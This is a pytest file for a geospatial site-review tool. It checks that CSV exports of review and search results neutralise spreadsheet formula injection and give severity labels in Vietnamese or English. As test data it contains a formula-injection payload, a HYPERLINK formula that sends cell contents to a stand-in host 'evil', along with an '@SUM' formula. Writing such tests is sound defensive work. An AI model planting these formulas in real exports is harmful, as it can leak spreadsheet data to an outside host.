"""Issue 10 §5: the review report's CSV neutralises formula cells; severity is in the reader's language."""

from __future__ import annotations

import csv
import io

import pytest
from shapely.geometry import box

from tbgeo.review.config import ReviewConfig
from tbgeo.review.model import SiteAttrs
from tbgeo.review.run import review_site

RICE = box(588_500, 2_260_200, 590_500, 2_260_700)


@pytest.mark.parametrize("lang,severity", [("vi", "Cảnh báo"), ("en", "Warning")])
def test_report_csv_neutralises_a_formula_site_name(ctx, lang: str, severity: str) -> None:
    name = '=HYPERLINK("http://evil/?"&A1,"Bấm vào đây")'
    rep = review_site(RICE, attrs=SiteAttrs(name=name), context=ctx, config=ReviewConfig())
    rows = list(csv.reader(io.StringIO(rep.to_csv(lang))))
    assert all(r[0] == "'" + name for r in rows[1:])
    rice = next(r for r in rows if r[1] == "rice_land")
    assert rice[2] == severity
    assert float(rice[4]) == pytest.approx(50.0)  # numbers stay numbers
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for r in rows for c in r)


@pytest.mark.parametrize("lang", ["vi", "en"])
def test_search_csv_neutralises_names_from_imported_layers(lang: str) -> None:
    """The site search's CSV: a park name from an imported layer (the candidate's zone, the worst
    finding) starting a formula gets its "'"; numbers stay numbers."""
    from types import SimpleNamespace

    from tbgeo.i18n import t
    from tbgeo.search.run import SearchResult

    zone = '=HYPERLINK("http://evil/?"&A1,"KCN Tiền Hải")'
    row = {
        t("search.col.rank", lang): 1, t("search.col.score", lang): 0.812, t("search.col.area", lang): 50.0,
        t("search.col.luc", lang): 0.0, t("search.col.luk", lang): -0.0, t("search.col.districts", lang): "Tiền Hải",
        t("search.col.zone", lang): zone, t("search.col.gas", lang): None,
        t("search.col.verdict", lang): "OK", t("search.col.worst", lang): "@SUM(A1:A9)",
    }  # fmt: skip
    text = SearchResult.to_csv(SimpleNamespace(table=lambda _lang: [row]), lang)  # type: ignore[arg-type]
    header, cells = list(csv.reader(io.StringIO(text)))
    assert header[6] == t("search.col.zone", lang)
    assert cells[6] == "'" + zone and cells[9] == "'@SUM(A1:A9)"
    assert cells[:3] == ["1", "0.812", "50.0"] and cells[4] == "-0.0" and cells[7] == ""
